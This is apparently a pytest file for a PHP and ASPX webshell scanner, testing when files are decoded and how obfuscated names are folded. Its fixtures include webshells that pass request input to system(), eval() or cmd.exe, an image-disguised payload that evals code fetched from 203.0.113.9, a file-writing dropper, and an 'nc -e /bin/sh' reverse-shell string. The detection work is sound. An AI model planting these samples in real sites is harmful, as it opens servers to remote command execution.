"""Which PHP text is normalised and decoded: only what can change the verdict (the costly part of a scan).

The snippets are written for these tests (ordinary helper functions, a string-built call on one long line);
nothing is executed.
"""

import pytest

from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import analyse, decode

FILLER = "".join("function helper_%d($a, $b) {\n    return $a + $b * %d;\n}\n\n" % (i, i) for i in range(120))


def _refuse_decoding(monkeypatch):
    def refuse(_text):
        raise AssertionError("decoded although the verdict was already certain")

    monkeypatch.setattr(decode, "layers", refuse)
    monkeypatch.setattr(decode, "decoded_layers", refuse)


def test_a_file_whose_plain_text_is_already_critical_is_not_decoded(monkeypatch):
    _refuse_decoding(monkeypatch)
    shell = b"<?php\nif (isset($_POST['c'])) { system($_POST['c']); eval($_REQUEST['e']); }\n"
    verdict = analyse.analyse("x.php", shell, 10, [])
    assert verdict["kind"] == "webshell"
    assert verdict["severity"] == "critical"


def test_a_weaker_file_is_still_decoded(monkeypatch):
    _refuse_decoding(monkeypatch)
    small = b"<?php\n$f = 'sy' . 'stem';\n$f($_GET['c']);\n"
    try:
        analyse.analyse("x.php", small, 10, [])
    except AssertionError as exc:
        assert "decoded" in str(exc)
    else:
        raise AssertionError("a small file below the critical score was not decoded")


def _is_decoded(monkeypatch, source):
    _refuse_decoding(monkeypatch)
    try:
        analyse.analyse("x.php", source.encode(), 10, [])
    except AssertionError as exc:
        assert "decoded" in str(exc)
        return True
    return False


def test_a_small_template_or_settings_file_is_not_decoded(monkeypatch):
    template = "<?php /* header */ ?>\n<h1><?php echo htmlspecialchars($title); ?></h1>\n<?php include 'footer.php'; ?>\n"
    settings = "<?php\n// site settings\n$config['db_host'] = 'localhost';\ndefine('DEBUG', false);\n"
    small_class = "<?php\nclass Cart {\n    public function total($items) { return array_sum($items); }\n}\n"
    for source in (template, settings, small_class):
        assert len(source) <= analyse.DEEP_SIZE
        assert not _is_decoded(monkeypatch, source), source


@pytest.mark.parametrize("line", [
    "$n = 'as' . 'sert';",  # literals joined
    "$f($x);",  # a call through a variable
    "$t['run']($x);",  # through an element
    "'helper'($x);",  # through a literal
    "$n = chr(97);",
    "$n = pack('H*', '617373657274');",
    "move_uploaded_file($_FILES['f']['tmp_name'], $to);",
    "$p = popen(\"$cmd\", 'r');",  # a variable in a string beside a command sink
])
def test_what_may_spell_a_name_or_a_flow_sends_a_small_file_to_decoding(monkeypatch, line):
    assert _is_decoded(monkeypatch, "<?php\n" + line + "\n")


def test_a_small_shell_found_only_once_undone_is_still_found():
    # The command is in a variable, named in a string: only folding the variable shows the shell reaching popen().
    shell = b'<?php\n$exec = "/bin/sh";\n$fp = popen("$exec", "r");\nprint $fp;\n'
    verdict = analyse.analyse("x.php", shell, 10, [])
    assert verdict["kind"] == "webshell"
    # The name is spelled in pieces around comments: only normalising shows assert() of request input.
    spelled = b'<?php @$_="s"."s"./*-*/"e"."r"; @$_="a".$_."t"; @$_/*-*/(${"_P"."OS"."T"}[0]);\n'
    verdict = analyse.analyse("x.php", spelled, 10, [])
    assert verdict["kind"] == "webshell" and "input_to_code" in verdict["signals"]


def test_a_call_built_on_one_long_line_of_a_large_plain_file_is_found():
    line = ("$f = 'sy'.'st'.'em'; " + "$pad = 'lorem ipsum dolor sit amet';" * 40 + " $f($_SERVER['argv'][1]);")
    source = "<?php\n" + FILLER + line + "\n"
    assert len(source) > analyse.DEEP_SIZE and len(line) >= analyse.LONG_LINE
    verdict = analyse.analyse("lib/helpers.php", source.encode(), 10, [])
    assert verdict["kind"] == "webshell"


def test_a_large_plain_file_without_long_lines_or_obfuscation_primitives_is_not_decoded(monkeypatch):
    _refuse_decoding(monkeypatch)
    # A caret that starts a regular expression is not an XOR of two literals.
    source = "<?php\n" + FILLER + "preg_match('^[a-z]+$', $name);\n"
    assert analyse.analyse("lib/helpers.php", source.encode(), 10, [])["kind"] is None


def test_an_xor_of_two_literals_sends_a_large_file_to_decoding(monkeypatch):
    _refuse_decoding(monkeypatch)
    source = "<?php\n" + FILLER + "$n = 'abc' ^ 'xyz';\n"
    try:
        analyse.analyse("lib/helpers.php", source.encode(), 10, [])
    except AssertionError as exc:
        assert "decoded" in str(exc)
    else:
        raise AssertionError("an XOR of literals did not send the file to decoding")


def test_a_comment_between_a_sink_and_its_bracket_sends_a_large_file_to_decoding(monkeypatch):
    # eval/*x*/( hides the call from the plain markers (a packer with its own decoder function).
    _refuse_decoding(monkeypatch)
    source = "<?php\n" + FILLER + "@eval/* cache */(unpack_it($blob));\n"
    assert len(source) > analyse.DEEP_SIZE
    try:
        analyse.analyse("lib/helpers.php", source.encode(), 10, [])
    except AssertionError as exc:
        assert "decoded" in str(exc)
    else:
        raise AssertionError("a call hidden behind a comment did not send the file to decoding")


def test_a_long_line_of_data_in_a_large_plain_file_is_not_decoded(monkeypatch):
    _refuse_decoding(monkeypatch)
    data = "return [" + ", ".join("'key%d' => 'value %d'" % (i, i) for i in range(200)) + "];"
    source = "<?php\n" + FILLER + data + "\n"
    assert len(data) >= analyse.LONG_LINE
    assert analyse.analyse("data/endpoints.php", source.encode(), 10, [])["kind"] is None


def test_scoring_stops_once_the_score_is_enough():
    from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import php

    text = "<?php\nsystem($_POST['c']);\neval($_REQUEST['e']);\nassert($_GET['a']);\n"
    full = php.score_php([text])
    short = php.score_php([text], enough=12)
    assert full.score > short.score >= 12
    assert set(short.found) < set(full.found)


def test_an_asp_picture_shell_with_nul_bytes_is_read_as_a_script():
    # An image header (with NUL bytes) in front of server code: binary at first sight, a shell all the same.
    shell = (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
             b"<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c\"]); %>")
    verdict = analyse.analyse("upload/avatar.aspx", shell, 10, [])
    assert verdict and verdict.get("kind") == "webshell", verdict


# Literal lookups in a large text go to its distinct names first (php.words_of); these compare them with the plain
# lookups in the text itself (WORDS_FROM raised so that no text is large), on texts of both sizes. NEAR_MISSES holds
# the name parts of literals without the literals ($_get, eval(, php://input, user-agent, ${').
NEAR_MISSES = "<?php\n$x_getx = 1; xeval (1); myphp:/inputs; user_agentx-agent; ${ 'a'}; nc-e; cmd_exe; /bin/shx\n"
LITERALS = ("<?php\n$s = \"nc -e /bin/sh 10.0.0.1\"; // scatter hitam\n$a = 'system'; $b = \"'assert'\";\n"
            "echo 'uname -a', 'rtp live', ' slot', 'poker'; @eval ( $x ); $_postx = xeval($y);\n")


def _lookups(low):
    from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import php, spam

    ev = php.Evidence()
    php._features(low, ev)
    return php.heads_in(low), php.has_request_input(low), spam._gated(low), analyse._deep_marker_in(low), ev.found


def test_lookups_in_the_words_of_a_large_text_find_what_the_text_holds(monkeypatch):
    from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import php

    for body in (LITERALS, FILLER + LITERALS, FILLER, FILLER + "$_GET['x'] 'exec' ${'a'}\n", NEAR_MISSES,
                 FILLER + NEAR_MISSES):
        low = ("<?php\n" + body + "passthru(\n proc_open( 'shell_exec' cmd.exe\n").lower()
        assert len(low) < php.WORDS_FROM or php.words_of(low) is not low
        fast = _lookups(low)
        monkeypatch.setattr(php, "WORDS_FROM", 1 << 40)
        assert _lookups(low) == fast
        monkeypatch.undo()
        # Each head is present exactly when the text holds it (the shorter ones it contains are there too).
        assert fast[0] == {name for name, _parent, _spelling in php._LOOKUPS if name in low} | {
            quoted for pairs in php._QUOTED_OF.values() for quoted, _spelling in pairs if quoted in low}
        if LITERALS in body:  # literals with white space, quoted names, a spam word, a decoding marker
            assert {"nc -e", "'system'", "'assert'"} <= fast[0] and fast[2] and fast[3]
        assert "'shell_exec'" in fast[0] and "cmd.exe" in fast[0]


def test_the_words_of_one_text_never_answer_for_another():
    from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import php

    shell = ("<?php\n" + FILLER + "system($_GET['c']);\n").encode()
    plain = ("<?php\n" + FILLER + "printf($_GET['c']);\n").encode()
    assert len(shell) > php.WORDS_FROM
    assert analyse.analyse("a.php", shell, 10, [])["kind"] == "webshell"
    assert analyse.analyse("b.php", plain, 10, [])["kind"] is None
    assert analyse.analyse("a.php", shell, 10, [])["kind"] == "webshell"


def test_a_literal_in_parentheses_loses_them_only_where_no_call_or_index_precedes():
    # The white space before the parenthesis goes with it; after a name, a closing bracket or white space that
    # follows one, the parentheses are a call's and stay.
    assert decode._join("$x = ('abc');") == "$x ='abc';"
    assert decode._join("x = (('abc'));") == "x = ('abc');"
    assert decode._join("f ('abc')") == "f ('abc')"
    assert decode._join("]('x')") == "]('x')"
    assert decode._join("(\n ('abc')") == "('abc'"
    assert decode._join("$a[ ('k')]") == "$a['k']"
    assert decode._join("= \t ( 'x' )") == "='x'"
    assert decode._join("('x')") == "'x'"


def test_folding_joins_again_what_an_earlier_join_made_joinable():
    # ('sy' . 'stem') needs two joins: the pieces first, then the parentheses around the joined literal; here the
    # second piece only becomes a literal once the variable is folded, then $f is folded in turn.
    assert decode.normalise("$f = ('sy' . 'stem'); $f($_GET['c']);") == "$f ='system'; 'system'($_GET['c']);"
    folded = decode.normalise("$a = 'stem'; $f = ('sy' . $a); $f($_GET['c']);")
    assert folded == "$a = 'stem'; $f ='system'; 'system'($_GET['c']);"


def test_a_text_with_characters_beyond_latin_1_is_looked_up_as_it_is():
    from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import php

    low = FILLER.lower() + "\u0100 eval($x);"
    assert php.words_of(low) is low
    assert "eval" in php.heads_in(low)


def test_the_crawler_check_finds_the_match_a_search_finds():
    import re

    from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import spam

    first = re.findall(r"[a-z_-]{5,}", spam._BOT_CHECK.pattern.split("[\\s\\S]")[0]) + ["googlebot", "bingbot", "slurp",
                                                                                          "yandex", "baiduspider"]
    assert sorted(first) == sorted(spam._BOT_CHECK_FIRST)
    texts = ["if (strpos($_server['%s'], 'googlebot') !== false) echo $links;" % word for word in first]
    texts += ["x %s y ... http_user_agent z bingbot" % word for word in first]
    texts += ["nothing here: referer only", "slurp " + "x" * 500 + " user-agent bot", "http_referer googlebot"]
    for text in texts:
        found, searched = spam._bot_check(text), spam._BOT_CHECK.search(text)
        assert (found and found.span()) == (searched and searched.span()), text


JPEG_HEAD = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"


def test_a_short_tag_running_code_behind_a_picture_header_is_read_as_php():
    """<?=eval(...) or <? @fwrite(...) after a JPEG header: PHP runs it in a file named .php, and in a picture it is
    a script smuggled past an upload filter. A picture whose bytes happen to hold "<?" followed by no code is not."""
    payload = b"<?=eval('?>' . file_get_contents('https://203.0.113.9/a.txt'));?>"
    assert analyse.analyse("site/img.php", JPEG_HEAD + payload + b"\x00" * 64, 10, [])["kind"] == "webshell"
    dropper = JPEG_HEAD + b"<? @fwrite(fopen('x.php', 'w'), $_POST['c']); ?>" + b"\x00" * 64
    assert analyse.analyse("site/images/a.jpg", dropper, 10, [])["kind"] == "suspicious_upload"
    assert analyse.analyse("site/images/b.jpg", JPEG_HEAD + b"<?\x00\x13<?=\x00" + b"\x00" * 64, 10, []) \
        .get("kind") is None


def test_chunks_appended_one_statement_each_are_joined_into_one_literal():
    text = "<?php $z = '';\n" + "".join("$z .= '%s';\n" % piece for piece in ("c3lz", "dGVt")) + "$w .= \"$v\";"
    assert "$z .= 'c3lzdGVt';" in decode.normalise(text)
    assert "$w .= \"$v\";" in decode.normalise(text)  # interpolation is not a literal piece
    mixed = "<?php $a .= 'x'; $b .= 'y'; $a .= 'z';"
    assert decode.normalise(mixed).count(".=") == 3  # another variable between: nothing joined


def test_an_echo_tag_opening_a_text_file_makes_it_php():
    """<?=/* comment */ ... in a .txt kept for inclusion: PHP reads the echo tag whatever follows it."""
    text = b"<?=/*x*/@NULL;$a='e'.'v'.'a'.'l';@eval(base64_decode($_POST['k']));"
    assert analyse.analyse("site/notes/p.txt", text, 10, [])["kind"] == "suspicious_upload"
    assert analyse.analyse("site/notes/readme.txt", b"Use <?php echo $x; ?> in templates; a <? is a tag.", 10, []) \
        .get("kind") is None
